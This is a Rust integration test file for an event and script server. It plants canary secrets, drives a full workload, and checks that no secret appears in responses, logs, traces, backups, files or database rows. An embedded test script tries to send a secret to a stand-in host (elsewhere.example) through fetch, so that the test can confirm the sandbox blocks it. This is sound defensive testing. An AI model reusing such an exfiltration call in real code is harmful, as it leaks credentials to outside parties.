//! Canaries: every kind of secret goes through a full workload, good and bad, and is then looked for
//! everywhere that somebody else may look.

use std::{
    fs,
    path::Path,
    sync::{Arc, Mutex},
};

use hmac::{Hmac, KeyInit as _, Mac as _};
use reqwest::{Method, header};
use serde_json::{Value, json};
use sha2::Sha256;
use sqlx::{AssertSqlSafe, Connection as _, PgConnection, Row as _, raw_sql};

use crate::support::{Api, Collector, Database, Server, TestRuntime, eventually, http};

const SECRET: &str = "canary-secret-5b1e9f";
const HOOK_SECRET: &str = "canary-hook-7c2d40";
const DATABASE_PASSWORD: &str = "canary-database-93aa";
/// What the collector of traces wants to see, and nobody else.
const COLLECTOR_KEY: &str = "canary-collector-e4410b";
/// A value that is no secret yet, in a body that cannot be taken.
const UNSET: &str = "canary-unset-1d77c4";

/// Everything that nobody may read, with what it is.
struct Canaries(Vec<(&'static str, String)>);

impl Canaries {
    /// Fails when a text holds one of them, plain or as bytes are often shown.
    #[track_caller]
    fn absent(&self, place: &str, bytes: &[u8]) {
        for (what, value) in &self.0 {
            for form in [value.clone(), hex(value.as_bytes()), base64(value)] {
                let found = bytes.windows(form.len()).any(|part| part == form.as_bytes());
                assert!(!found, "{place} holds {what}");
            }
        }
    }
}

fn hex(bytes: &[u8]) -> String {
    bytes.iter().map(|byte| format!("{byte:02x}")).collect()
}

fn base64(text: &str) -> String {
    use base64::Engine as _;
    base64::engine::general_purpose::STANDARD_NO_PAD.encode(text)
}

#[tokio::test]
async fn no_secret_turns_up_where_it_does_not_belong_on_sqlite() {
    no_secret_turns_up(Database::Sqlite).await;
}

#[tokio::test]
async fn no_secret_turns_up_where_it_does_not_belong_on_postgresql() {
    if Database::Postgres.available() {
        no_secret_turns_up(Database::Postgres).await;
    }
}

async fn no_secret_turns_up(database: Database) {
    let url = database.create().await;
    let with_password = url.as_deref().map(password_in);
    let collector = Collector::start().await;
    let config = format!(
        "[log]\nlevel = \"debug\"\n[script]\nrecord = \"all\"\n[telemetry]\n\
         otlp_endpoint = \"http://{}\"\notlp_headers = \"x-api-key={COLLECTOR_KEY}\"\n",
        collector.address
    );
    let mut server = Server::new(&config, with_password.as_deref());
    server.start().await;
    let mut rt = TestRuntime::of(server);
    let live = live(&rt).await;
    let (canaries, roles) = work(&rt).await;

    for (role, api) in &roles {
        for path in reads(&rt, api).await {
            let answer = api.request(Method::GET, &path, None).await;
            canaries.absent(&format!("{path} as {role}"), answer.body.to_string().as_bytes());
        }
    }
    for (what, answer) in mistakes(&rt, &canaries).await {
        canaries.absent(what, answer.as_bytes());
    }
    search_spans(&canaries, &collector).await;
    let told = eventually("the live feed to tell of all", async || {
        let told = live.lock().expect("no panic").clone();
        let deaths = String::from_utf8_lossy(&told).matches("\"outcome\":\"dead\"").count();
        if deaths >= 4 { Ok(told) } else { Err(deaths) }
    })
    .await;
    canaries.absent("the live feed", &told);
    search_backup(&canaries, &rt, database).await;
    rt.server.stop();
    canaries.absent("the log", without_login_link(&rt.server.whole_log()).as_bytes());
    search_files(&canaries, &rt.server.data(), &rt.server.admin_token());
    if let Some(url) = url {
        for (table, text) in rows(&url).await {
            canaries.absent(&format!("the table {table}"), text.as_bytes());
        }
    }
}

/// What the live feed tells from now on.
async fn live(rt: &TestRuntime) -> Arc<Mutex<Vec<u8>>> {
    let feed = http().get(rt.server.url() + "/api/v1/live").bearer_auth(rt.server.admin_token());
    let mut feed = feed.send().await.expect("an answer");
    assert_eq!(feed.status().as_u16(), 200);
    let told: Arc<Mutex<Vec<u8>>> = Arc::default();
    let heard = Arc::clone(&told);
    tokio::spawn(async move {
        while let Ok(Some(bytes)) = feed.chunk().await {
            heard.lock().expect("no panic").extend(&bytes);
        }
    });
    told
}

/// Spans of all runs have come, with the key that the collector wants in no body.
async fn search_spans(canaries: &Canaries, collector: &Collector) {
    let runs = eventually("the spans of all runs", async || {
        let runs = collector.spans().iter().filter(|s| s.text("name").starts_with("run")).count();
        if runs >= 5 { Ok(runs) } else { Err(runs) }
    })
    .await;
    for request in collector.requests() {
        assert_eq!(request.headers["x-api-key"], COLLECTOR_KEY);
        canaries.absent("a span", request.body.as_bytes());
        canaries.absent("the collector's path", request.path.as_bytes());
    }
    assert!(runs >= 5);
}

/// The file of a backup, and what it is restored to: it may be compressed.
async fn search_backup(canaries: &Canaries, rt: &TestRuntime, database: Database) {
    let file = rt.server.home().join("canary.backup");
    let path = file.display().to_string();
    let (code, said) = rt.server.cli_meanwhile(&["backup", &path]).await;
    assert_eq!(code, 0, "{said}");
    canaries.absent("what backup says", said.as_bytes());
    canaries.absent("the backup", &fs::read(&file).expect("a file"));
    let elsewhere = Server::new("", database.create().await.as_deref());
    let (code, said) = elsewhere.cli(&["restore", &path]);
    assert_eq!(code, 0, "{said}");
    canaries.absent("what restore says", said.as_bytes());
    if matches!(database, Database::Sqlite) {
        search_files(canaries, &elsewhere.data(), "");
    }
}

/// PostgreSQL that trusts whoever comes takes any password.
fn password_in(url: &str) -> String {
    let mut url = url::Url::parse(url).expect("a URL");
    url.set_password(Some(DATABASE_PASSWORD)).expect("a URL with a host");
    url.to_string()
}

/// Scripts that print, throw, return and send their secret; logins; a hook; tokens.
async fn work(rt: &TestRuntime) -> (Canaries, Vec<(&'static str, Api)>) {
    let mut canaries = vec![
        ("the database's password", DATABASE_PASSWORD.to_owned()),
        ("a secret", SECRET.to_owned()),
        ("the collector's key", COLLECTOR_KEY.to_owned()),
        ("a hook's secret", HOOK_SECRET.to_owned()),
        ("what was to be a secret", UNSET.to_owned()),
        ("the admin token", rt.server.admin_token()),
    ];
    for (name, value) in [("api", SECRET), ("hook", HOOK_SECRET)] {
        let path = format!("/api/v1/secrets/{name}");
        rt.request(Method::PUT, &path, Some(&json!({ "value": value }))).await.ok(&path);
    }
    scripts(rt).await;
    hook(rt).await;
    let mut roles = vec![("admin", rt.api.clone())];
    for role in ["publisher", "viewer", "editor"] {
        let made = rt.post("/api/v1/tokens", &json!({ "name": role, "role": role })).await;
        let secret = made["secret"].as_str().expect("a secret").to_owned();
        roles.push((role, rt.api.with_token(&secret)));
        canaries.push(("a token", secret));
    }
    let code = login_code(&rt.server.whole_log());
    canaries.push(("a session", log_in(rt, json!({ "token": rt.server.admin_token() })).await));
    canaries.push(("a session by code", log_in(rt, json!({ "code": code })).await));
    canaries.push(("the login code", code));
    (Canaries(canaries), roles)
}

async fn scripts(rt: &TestRuntime) {
    let source = "
        export default async (how) => {
            const secret = await sdk.secrets.get('api');
            console.log(secret, btoa(secret), encodeURIComponent(secret), { secret });
            if (how === 'throw') throw new Error('no access with ' + secret);
            if (how === 'fetch') return await fetch('https://elsewhere.example/?key=' + secret, { headers: { authorization: secret } });
            if (how === 'emit') await sdk.events.emit('a'.repeat(3000) + secret, { secret });
            if (how === 'spin') { console.error(secret); while (true) {} }
            return { secret };
        }";
    let script = json!({ "name": "leak", "language": "typescript", "source": source, "secrets": ["api"], "fetch_allow": ["127.0.0.1:1"] });
    let script = rt.post("/api/v1/scripts", &script).await;
    let id = script["id"].as_str().expect("an id");
    let limits = json!({ "cpu_ms": 50, "wall_ms": 1000 });
    rt.subscription("leak").on("leak").using(id).attempts(1, 1).with("limits", limits).add().await;
    for how in ["return", "throw", "fetch", "emit", "spin"] {
        let event = rt.publish("leak", json!(how)).await;
        let delivery = rt.delivery_of(&event, "leak").await;
        assert_eq!(delivery.status, if how == "return" { "succeeded" } else { "dead" }, "{how}");
        let test = json!({ "data": how });
        let out = rt.post(&format!("/api/v1/scripts/{id}/test"), &test).await.to_string();
        assert!(!out.contains(SECRET), "{how}: {out}");
    }
}

/// A hook with a good delivery, and with one whose sender sent the secret itself for a signature.
async fn hook(rt: &TestRuntime) {
    let hook = json!({ "name": "github", "preset": "github", "secrets": ["hook"] });
    rt.post("/api/v1/hooks", &hook).await;
    let mut mac = Hmac::<Sha256>::new_from_slice(HOOK_SECRET.as_bytes()).expect("any key");
    mac.update(b"{}");
    let good = format!("sha256={}", hex(&mac.finalize().into_bytes()));
    for (signature, status) in [(good.as_str(), 202), (HOOK_SECRET, 401)] {
        let request = http().post(rt.server.url() + "/hooks/github").body("{}");
        let request = request.header("x-github-event", "push").header("x-github-delivery", "1");
        let answer =
            request.header("x-hub-signature-256", signature).send().await.expect("an answer");
        assert_eq!(answer.status().as_u16(), status);
    }
}

async fn log_in(rt: &TestRuntime, credentials: Value) -> String {
    let answer = http().post(rt.server.url() + "/api/v1/session").json(&credentials);
    let answer = answer.send().await.expect("an answer");
    let cookie = answer.headers()[header::SET_COOKIE].to_str().expect("text").to_owned();
    let (_, value) =
        cookie.split(';').next().and_then(|pair| pair.split_once('=')).expect("a value");
    value.to_owned()
}

/// Every read of the document, with ids that there are.
async fn reads(rt: &TestRuntime, api: &Api) -> Vec<String> {
    let document = rt.get("/api/openapi.json").await;
    let mut paths = vec!["/".to_owned(), "/api/docs".to_owned()];
    for (path, item) in document["paths"].as_object().expect("paths") {
        // The stream has no end; what it says is searched by itself.
        if item.get("get").is_none() || path.ends_with("/live") {
            continue;
        }
        let Some((list, rest)) = path.split_once("/{") else {
            paths.push(path.clone());
            continue;
        };
        let rest = rest.split_once('}').map_or("", |(_, rest)| rest).replace("{version}", "1");
        let listed = api.request(Method::GET, list, None).await.body;
        for item in listed["items"].as_array().into_iter().flatten() {
            let id =
                ["id", "uid", "name", "namespace"].iter().find_map(|name| item[*name].as_str());
            paths.extend(id.map(|id| format!("{list}/{id}{rest}")));
        }
    }
    paths
}

/// Requests with tokens and secrets in the wrong places, and what they were answered. What stood in
/// the request may be in its own answer only where it must be quoted to be of use: nowhere here.
async fn mistakes(rt: &TestRuntime, canaries: &Canaries) -> Vec<(&'static str, String)> {
    let url = rt.server.url();
    let token = rt.server.admin_token();
    let client = http();
    let mut answers = Vec::new();
    for (_, value) in &canaries.0 {
        let plain = |path: String| client.get(format!("{url}{path}"));
        let asked = [
            ("a token in a query", plain(format!("/api/v1/stats?token={value}"))),
            ("a token in a query that is read", plain(format!("/api/v1/events?token={value}"))),
            (
                "a token for a cursor",
                plain(format!("/api/v1/events?cursor={value}")).bearer_auth(&token),
            ),
            (
                "a token for a number",
                plain(format!("/api/v1/events?limit={value}")).bearer_auth(&token),
            ),
            (
                "a wrong scheme",
                plain("/api/v1/stats".into()).header("authorization", format!("Token {value}")),
            ),
            ("a wrong token", plain("/api/v1/stats".into()).bearer_auth(format!("{value}x"))),
            (
                "a wrong cookie",
                plain("/api/v1/stats".into()).header("cookie", format!("tripline={value}x")),
            ),
            ("a token for a password", plain("/api/v1/stats".into()).basic_auth("x", Some(value))),
            (
                "a body that is no JSON",
                client
                    .post(format!("{url}/api/v1/events"))
                    .bearer_auth(&token)
                    .body(format!("{{\"{value}")),
            ),
            (
                "a login that is none",
                client
                    .post(format!("{url}/api/v1/session"))
                    .json(&json!({ "token": format!("{value}x") })),
            ),
            (
                "a token as another type",
                client.post(format!("{url}/api/v1/session")).json(&json!({ "token": [value] })),
            ),
            (
                "a secret that is short of a bracket",
                client
                    .put(format!("{url}/api/v1/secrets/x"))
                    .bearer_auth(&token)
                    .header("content-type", "application/json")
                    .body(format!("{{\"value\":\"{value}\"")),
            ),
            (
                "a secret with a wrong member",
                client
                    .put(format!("{url}/api/v1/secrets/x"))
                    .bearer_auth(&token)
                    .json(&json!({ "value": { "is": value } })),
            ),
        ];
        for (what, request) in asked {
            let answer = request.send().await.expect("an answer");
            let status = answer.status();
            answers.push((what, format!("{status} {}", answer.text().await.expect("a text"))));
        }
        // The path of a URL is quoted to whoever mistyped it, and goes nowhere else.
        plain(format!("/api/v1/events/{value}"))
            .bearer_auth(&token)
            .send()
            .await
            .expect("an answer");
        plain(format!("/{value}")).send().await.expect("an answer");
    }
    answers
}

/// The link is printed for whoever started the server: the one place where the code stands.
fn without_login_link(log: &str) -> String {
    log.lines().filter(|line| !line.contains("/#code=")).flat_map(|line| [line, "\n"]).collect()
}

fn login_code(log: &str) -> String {
    let link = log.lines().find_map(|line| line.split_once("/#code=")).expect("a login link");
    link.1.trim().to_owned()
}

/// The data folder: the admin token is in its file, and nothing else is anywhere.
fn search_files(canaries: &Canaries, folder: &Path, admin: &str) {
    for entry in fs::read_dir(folder).expect("a folder") {
        let path = entry.expect("an entry").path();
        if path.is_dir() {
            search_files(canaries, &path, admin);
            continue;
        }
        let bytes = fs::read(&path).expect("its content");
        if path.file_name().is_some_and(|name| name == "admin.token") {
            assert_eq!(String::from_utf8_lossy(&bytes).trim(), admin);
            continue;
        }
        canaries.absent(&path.display().to_string(), &bytes);
    }
}

/// Every row of every table, as PostgreSQL prints it: bytes in hexadecimal.
async fn rows(url: &str) -> Vec<(String, String)> {
    let mut connection = PgConnection::connect(url).await.expect("the database answers");
    let tables = "SELECT tablename::text FROM pg_tables WHERE schemaname = 'public'";
    let tables = raw_sql(tables).fetch_all(&mut connection).await.expect("the tables");
    let mut found = Vec::new();
    for table in tables {
        let table: String = table.get(0);
        let query = format!("SELECT t::text FROM \"{table}\" t");
        let rows =
            raw_sql(AssertSqlSafe(query)).fetch_all(&mut connection).await.expect("its rows");
        let text: Vec<String> = rows.iter().map(|row| row.get(0)).collect();
        found.push((table, text.join("\n")));
    }
    assert!(found.len() > 10, "{} tables", found.len());
    found
}

#[test]
fn the_search_finds_what_is_there() {
    let canaries = Canaries(vec![("it", "canary-0".to_owned())]);
    canaries.absent("nothing", b"canary");
    for form in ["a canary-0 b", &hex(b"canary-0"), &base64("canary-0")] {
        let found = std::panic::catch_unwind(|| canaries.absent("it", form.as_bytes()));
        assert!(found.is_err(), "{form}");
    }
}

/// Who asked for what in vain is in the log, by the route's name: a URL may hold a secret by mistake.
#[tokio::test]
async fn refusals_are_logged_without_what_stood_in_the_url() {
    let rt = TestRuntime::start().await;
    let path = "/api/v1/events/canary-in-the-path?canary=in-the-query";
    let wrong = rt.with_token("trl_aaaaaaaa_canary");
    wrong.request(Method::GET, path, None).await.refused(401, "unauthorized");
    let log = rt.server.whole_log();
    let line = log.lines().find(|line| line.contains("a request was refused")).expect("a line");
    assert!(line.contains("/api/v1/events/{uid}") && line.contains("401"), "{line}");
    assert!(!log.contains("canary"), "{log}");
}
